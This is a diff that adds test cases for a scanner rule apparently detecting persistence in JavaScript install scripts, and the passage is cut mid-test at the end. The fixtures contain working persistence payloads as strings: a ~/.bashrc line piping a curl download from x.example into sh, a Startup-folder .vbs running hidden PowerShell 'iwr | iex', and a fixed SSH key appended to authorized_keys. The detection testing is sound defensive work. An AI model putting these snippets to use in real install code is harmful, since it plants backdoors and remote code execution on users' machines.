@@ -21,6 +21,36 @@ ruleTest(rule, {
   ],
   flagged: [
     {
+      name: 'look-alike: completion installer appending source <(tool completion) to ~/.bashrc on request',
+      file: 'bin/cli.js',
+      code: "const fs = require('fs');\nconst os = require('os');\nif (process.argv[2] === 'completion') fs.appendFileSync(os.homedir() + '/.bashrc', '\\nsource <(mycli completion bash)\\n');\n",
+      findings: [{ line: 3, severity: 'low', confidence: 'low', message: /^Persistence: shell rc file$/ }],
+    },
+    {
+      name: 'a shell rc line that pipes a download into a shell is the payload itself',
+      file: 'install.js',
+      code: "const fs = require('fs');\nconst os = require('os');\nconst line = '\\n(curl -s http://x.example/r | sh &) >/dev/null 2>&1\\n';\nfs.appendFileSync(os.homedir() + '/.bashrc', line);\n",
+      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /shell rc file \(next to a download piped into a shell: curl -s http:\/\/x\.example\/r \| sh/ }],
+    },
+    {
+      name: 'Startup folder spelt as path.join segments, a .vbs running iwr | iex',
+      file: 'lib/install.js',
+      code: "const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(process.env.APPDATA, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup');\nfs.writeFileSync(path.join(dir, 'sync.vbs'), 'CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr http://x.example/s | iex\", 0');\n",
+      findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /Startup folder/ }],
+    },
+    {
+      name: 'a fixed SSH key appended to authorized_keys',
+      file: 'setup.js',
+      code: "const fs = require('fs');\nconst p = require('path').join(require('os').homedir(), '.ssh', 'authorized_keys');\nfs.appendFileSync(p, '\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExample deploy@ci\\n');\n",
+      findings: [{ line: 2, severity: 'critical', confidence: 'high', message: /SSH authorized_keys \(next to a fixed SSH public key\)/ }],
+    },
+    {
+      name: 'authorized_keys written from a key given at run time: medium',
+      file: 'provision.js',
+      code: "const fs = require('fs');\nmodule.exports = (home, key) => fs.appendFileSync(home + '/.ssh/authorized_keys', key + '\\n');\n",
+      findings: [{ line: 2, severity: 'medium', confidence: 'medium', message: /SSH authorized_keys$/ }],
+    },
+    {
       name: 'large bundle: an auto-launch module far from an unrelated module that fetches and evals (medium, no loader context)',
       file: 'dist/main.js',
       code: `const fs = require('fs'), os = require('os');
